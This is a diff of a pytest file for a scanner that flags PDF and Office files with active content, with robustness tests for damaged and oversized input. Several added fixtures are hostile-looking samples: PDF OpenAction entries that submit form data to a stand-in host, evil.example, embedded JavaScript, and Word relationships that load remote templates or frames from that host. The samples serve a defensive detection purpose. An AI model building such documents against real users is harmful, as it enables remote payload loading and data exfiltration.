@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import time
+import zlib
 
 import pytest
 from hypothesis import given, settings
@@ -23,6 +24,7 @@ ORDINARY = {
     ],
     EXCEL: [office(EXCEL)],
 }
+FRAME = f"<R>{relationship('frame', 'https://evil.example', outside=True)}</R>"
 MACRO_WORD = "application/vnd.ms-word.document.macroEnabled.main+xml"
 ACTIVE = {
     "application/pdf": [
@@ -33,6 +35,14 @@ ACTIVE = {
         pdf(b"/Encrypt 5 0 R "),
         packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>"),
         packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>", b" /ObjStm"),
+        pdf(b"/OpenAction<</S/SubmitForm/F(https://evil.example)>> "),
+        pdf(b"/OpenAction<</S/ImportData/F(x.fdf)>> "),
+        pdf(b"/OpenAction<</S/GoToE/F(//evil.example/x)>> "),
+        pdf(b"/OpenAction<</S/Rendition/JS(app.alert(1))>> "),
+        pdf(b"/AcroForm<</XFA 9 0 R>> "),
+        packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>", b"/ObjStm" + b" " * 10_000),
+        packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>", b"/ObjStm %obj\n"),
+        packed_pdf(b"<</S/JavaScript/JS(app.alert(1))>>", b" 7 0 R/N 1/First 4"),
         packed_pdf(b" " * 5_000_000 + b"/JavaScript"),
         packed_pdf(b"x").replace(b"/FlateDecode", b"[/ASCIIHexDecode/FlateDecode]").replace(b"\r\n\x78", b"\r\nX"),
     ],
@@ -44,6 +54,14 @@ ACTIVE = {
         office(types='<Default Extension="a" ContentType="vba&#80;roject"/>'),
         office(links=relationship("attachedTemplate", "https://evil.example/t.dotm", outside=True)),
         office(links=relationship("oleObject", "file:///x", outside=True)),
+        office(links=relationship("attachedTemplate", "https://evil.example/hyperlink", outside=True)),
+        office(links=relationship("attachedTemplate", "https://evil.example/t.dotm")),
+        office(links='<Relationship Id="a>b" Type="x/frame" Target="https://evil.example" TargetMode="External"/>'),
+        office(**{"word/_RELS/a.RELS": FRAME}),
+        office(**{"word/_rels/a.rels": "\0".join(FRAME) + "\0"}),
+        office(links=relationship("oleObject", "media/a.bin"), word__media__a="x"),
+        office(links=relationship("package", "media/a.docx"), word__media__a="x"),
+        office(links=relationship("aFChunk", "media/a.mht"), word__media__a="x"),
     ],
 }
 
@@ -76,7 +94,11 @@ def test_files_that_act(kind: str, data: bytes) -> None:
         archive({"a.txt": "b"}),
         archive({"[Content_Types].xml": "", "word/document.xml": ""}),
         office(main=MACRO_WORD),
-        office(types=" " * 1_100_000),
+        office(types=" " * 4_200_000),
+        office(**{f"word/_rels/{number}.rels": f"<R>{' ' * 1_000_000}</R>" for number in range(5)}),
+        office(**{"word/_rels/a.rels": '<!DOCTYPE R [<!ENTITY e "External">]><R/>'}),
+        office(**{"word/_rels/a.rels": '<?xml version="1.0" encoding="UTF-7"?><R/>'}),
+        office(**{"word/document.XML": "<document/>"}),
         office(types="\ud7ff").replace(b"PK\x05\x06", b"PK\x05\x05"),
     ],
 )
@@ -92,7 +114,12 @@ def test_a_damaged_file_is_judged_without_an_exception(data: bytes, at: int, noi
     assert kind is None or can_act(damaged, kind) in (True, False)
 
 
-@pytest.mark.parametrize("filler", [b"#41", b"stream\n", b"/ObjStm/Filter stream\n", b"<<", b"\0"])
+SMALL_STREAM = b"/ObjStm/Filter stream\n" + zlib.compress(b"x")
+
+
+@pytest.mark.parametrize(
+    "filler", [b"#41", b"stream\n", b"/ObjStm/Filter stream\n", b"/First/Filter stream\n", SMALL_STREAM, b"<<", b"\0"]
+)
 def test_the_largest_file_is_judged_within_seconds(filler: bytes) -> None:
     large = pdf(filler * (MOST_BYTES // len(filler)))
     began = time.process_time()
